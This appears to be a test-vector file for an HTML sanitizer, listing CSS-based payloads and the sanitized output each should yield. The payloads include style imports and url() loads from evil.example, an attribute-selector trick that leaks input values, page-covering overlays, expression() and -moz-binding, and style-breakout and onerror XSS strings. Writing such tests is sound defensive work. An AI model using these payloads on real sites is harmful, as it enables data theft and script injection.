import { QUIET, type HtmlVector } from './vector.js';

/** Styles that tell others what the page holds, cover it, or hide. */
export const STYLES: readonly HtmlVector[] = [
  {
    title: 'a style element',
    payload: '<style>*{display:none}</style><p>a</p>',
    expected: '<p>a</p>',
  },
  {
    title: 'an import in a style element',
    payload: '<style>@import "https://evil.example/x.css";</style>',
    expected: '',
  },
  {
    title: 'a style element before all else',
    payload: '<style>p > b { color: red }</style> <p>a</p>',
    expected: ' <p>a</p>',
  },
  {
    title: 'a style that reads a value',
    payload:
      '<style>input[value^=a]{background:url(https://evil.example/a)}</style><input value=abc><p>b</p>',
    expected: '<p>b</p>',
  },
  {
    title: 'a style that imports by each spelling',
    payload:
      '<style>@import url(//evil.example/1.css);@\\69mport "//evil.example/2.css";</style><p>a</p>',
    expected: '<p>a</p>',
  },
  {
    title: 'a style that loads a font',
    payload:
      '<style>@font-face{font-family:x;src:url(https://evil.example/f)}p{font-family:x}</style><p>a</p>',
    expected: '<p>a</p>',
  },
  {
    title: 'a style that reaches the host',
    payload:
      '<style>:host{position:fixed}:host-context(body){x:y}::slotted(*){display:none}::part(x){y:z}</style><p>a</p>',
    expected: '<p>a</p>',
  },
  {
    title: 'a style in an attribute that loads',
    payload:
      '<p style="background:url(https://evil.example/x);list-style-image:url(//evil.example/y);cursor:url(//evil.example/z),auto">a</p>',
    expected: '<p>a</p>',
  },
  {
    title: 'a style in an attribute that covers the page',
    payload: '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">a</div>',
    expected: '<div>a</div>',
  },
  {
    title: 'a style in an attribute with an expression',
    payload:
      '<p style="width:expression(alert(1));behavior:url(#x);-moz-binding:url(//evil.example/x)">a</p>',
    expected: '<p>a</p>',
  },
  {
    title: 'a style in an attribute that hides by a trick',
    payload:
      '<p style="DISPLAY/**/:none">a</p><p style="display:none\\9">b</p><p style="--x:display:none">c</p>',
    expected: '<p>a</p><p>b</p><p>c</p>',
  },
  {
    title: 'a style in an attribute with quotes and braces',
    payload: '<p style="}</style><script>alert(1)</script>">a</p>',
    expected: '<p>a</p>',
  },
  {
    title: 'a style in an attribute with markup for a weight',
    payload: '<p style="font-weight:bold;x:<img src=x onerror=alert(1)>">a</p>',
    expected: '<p><strong>a</strong></p>',
  },
  {
    title: 'a style element in a drawing',
    payload: '<svg><style>@import "//evil.example/1.css";*{x:y}</style></svg><p>a</p>',
    expected: '<p>a</p>',
  },
  {
    title: 'a style element in a formula',
    payload: '<math><style>*{background:url(//evil.example/x)}</style><mi>x</mi></math>',
    expected: '<math><mi>x</mi></math>',
  },
  {
    title: 'a style element with a comment that ends it',
    payload: '<style><!--</style><img src=/a.png onerror=alert(1)>--></style><p>a</p>',
    expected: `<img src="https://news.example/a.png" alt=""${QUIET}>--&gt;<p>a</p>`,
  },
  {
    title: 'a style element with media and a title',
    payload:
      '<style media=print title=x onload=alert(1) blocking=render>p{color:red}</style><p>a</p>',
    expected: '<p>a</p>',
  },
  {
    title: 'old attributes of style',
    payload:
      '<p align=center bgcolor=red>a</p><font size=7 color=red face=x>b</font><hr noshade color=red><br clear=all>',
    expected: '<p>a</p>b<hr><br>',
  },
  {
    title: 'a class of ours',
    payload: '<p class="content visually-hidden dialog strut">a</p><p class=emoji>b</p>',
    expected: '<p>a</p><p>b</p>',
  },
];
